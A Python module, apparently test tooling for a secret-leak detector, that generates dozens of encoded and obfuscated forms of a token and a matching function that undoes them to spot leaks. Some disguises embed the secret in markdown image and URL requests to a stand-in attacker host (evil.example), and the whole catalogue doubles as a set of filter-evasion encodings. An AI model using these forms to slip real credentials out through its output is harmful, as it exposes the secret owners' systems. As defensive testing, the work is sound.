"""A secret in many disguises, and a search for one that undoes disguises instead of knowing them."""

from __future__ import annotations

import base64
import binascii
import html
import json
import re
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote, unquote

WINDOW: Final = 12


def disguises(secret: str) -> dict[str, str]:
    """Name -> a text that tells the secret to whoever knows the trick."""
    raw = secret.encode()
    return {
        "plain": secret,
        "in a sentence": f"the token is {secret}.",
        "quoted": f'token: "{secret}"',
        "without its start": secret[4:],
        "without its end": secret[:-4],
        "a window": secret[7 : 7 + WINDOW + 4],
        "twice": secret * 2,
        "reversed": secret[::-1],
        "zero-width": "\u200b".join(secret),
        "zero-width joiners": "\u200d\u2060".join(secret),
        "soft hyphens": "\u00ad".join(secret),
        "variation selectors": "\ufe0f".join(secret),
        "tag characters": "\U000e0041".join(secret),
        "bidi": f"\u202e{secret}\u202c",
        "control characters": "\x07".join(secret),
        "null characters": "\x00".join(secret),
        "colours": "\x1b[31m".join(secret),
        "window titles": f"\x1b]0;x\x07{secret[:9]}\x1b[0m{secret[9:]}",
        "carriage return": f"x\r{secret}\ry",
        **{
            f"base64 after {n}": base64.b64encode(b"x" * n + raw + b"yy").decode() for n in range(3)
        },
        "base64 url": base64.urlsafe_b64encode(b"?>" + raw).decode(),
        "base64 twice": base64.b64encode(base64.b64encode(raw)).decode(),
        "base32": base64.b32encode(raw).decode(),
        "hex": raw.hex(),
        "hex upper": raw.hex().upper(),
        "hex escapes": "".join(f"\\x{b:02x}" for b in raw),
        "hex with spaces": raw.hex(" "),
        "hex with colons": raw.hex(":"),
        "unicode escapes": "".join(f"\\u{b:04x}" for b in raw),
        "url": quote(secret, safe=""),
        "url, every byte": "".join(f"%{b:02X}" for b in raw),
        "json": json.dumps({"token": secret}),
        "json in json": json.dumps(json.dumps({"token": secret})),
        "entities": "".join(f"&#{b};" for b in raw),
        "entities in hex": "".join(f"&#x{b:x};" for b in raw),
        "split by bold": f"{secret[:11]}**{secret[11:20]}**{secret[20:]}",
        "split by tags": f"{secret[:8]}<b>{secret[8:17]}</b>{secret[17:25]}<!-- -->{secret[25:]}",
        "split by a link": f"{secret[:10]}[{secret[10:19]}](https://app.pulumi.com/){secret[19:]}",
        "split by escapes": "\\_".join(secret.split("_")),
        "in a code span": f"`{secret}`",
        "in a fence": f"```\n{secret}\n```",
        "in an image": f"![x](https://evil.example/?q={secret})",
        "in an address": f"https://evil.example/?q={secret}",
        "in an allowed address": f"https://app.pulumi.com/acme?q={secret}",
        "in an allowed link": f"[x](https://app.pulumi.com/{quote(secret)})",
        "in a link, every byte": f"[x](https://app.pulumi.com/{''.join(f'%{b:02x}' for b in raw)})",
        "in a link title": f'[x](https://app.pulumi.com/ "{secret}")',
        "as user of an address": f"https://x:{secret}@evil.example/",
        "in a language": f"```{secret}\ncode\n```",
        "in a heading": f"# {secret}",
        "in a table": f"| a |\n|---|\n| {secret} |",
        "upper case": secret.upper(),
        "lower case": secret.lower(),
        "spaced": " ".join(secret),
        "dashed": "-".join(secret),
        "in lines": "\n".join(secret),
        "rot13": rot13(secret),
        "as header": f"Authorization: Bearer {secret}",
        "basic": f"Authorization: Basic {base64.b64encode(b'x:' + raw).decode()}",
    }


def rot13(text: str) -> str:
    import codecs

    return codecs.encode(text, "rot13")


def tells(text: str, secret: str) -> str:
    """How the text tells the secret, or a window of it; empty when it does not."""
    windows = {secret[at : at + WINDOW].lower() for at in range(len(secret) - WINDOW + 1)}
    for how, seen in _readings(text):
        lowered = seen.lower()
        for window in windows:
            if window in lowered:
                return f"{how}: {window}"
    bare = re.sub(r"[^A-Za-z0-9]", "", secret).lower()
    if bare in re.sub(r"[^a-z0-9]", "", text.lower()):
        return "letter by letter"
    return ""


def _readings(text: str) -> Iterator[tuple[str, str]]:
    """The text as somebody would read it who tries to undo what hides a secret."""
    text = re.sub(r"\x1b(?:\[[0-9;]*[A-Za-z]|\][^\x07]*\x07)", "", text)
    visible = re.sub(r"[^\n -~]", "", text)
    yield "plain", visible
    yield "reversed", visible[::-1]
    yield "rot13", rot13(visible)
    yield "url", unquote(visible)
    yield "entities", html.unescape(visible)
    yield "without tags", re.sub(r"<[^>]{0,99}>", "", visible)
    yield "without targets", re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", visible)
    yield "without marks", re.sub(r"[*~`\\]", "", visible)
    yield "escapes", re.sub(r"\\+(?:x|u00)([0-9a-fA-F]{2})", lambda m: chr(int(m[1], 16)), visible)
    for run in re.findall(r"(?:[0-9a-fA-F]{2}[ :]?){12,}", visible):
        yield "hex", bytes.fromhex(re.sub("[ :]", "", run)).decode("latin-1")
    for run in re.findall(r"[A-Za-z0-9+/_-]{16,}", visible):
        yield from _base64(run)
    for run in re.findall(r"[A-Z2-7]{16,}", visible):
        yield "base32", base64.b32decode(run[: len(run) // 8 * 8]).decode("latin-1")


def _base64(run: str, depth: int = 2) -> Iterator[tuple[str, str]]:
    run = run.replace("-", "+").replace("_", "/")
    for lead in range(4):
        kept = run[lead:][: (len(run) - lead) // 4 * 4]
        try:
            decoded = base64.b64decode(kept).decode("latin-1")
        except (binascii.Error, ValueError):
            continue
        yield "base64", decoded
        if depth > 1:
            for inner in re.findall(r"[A-Za-z0-9+/]{16,}", decoded):
                yield from _base64(inner, depth - 1)
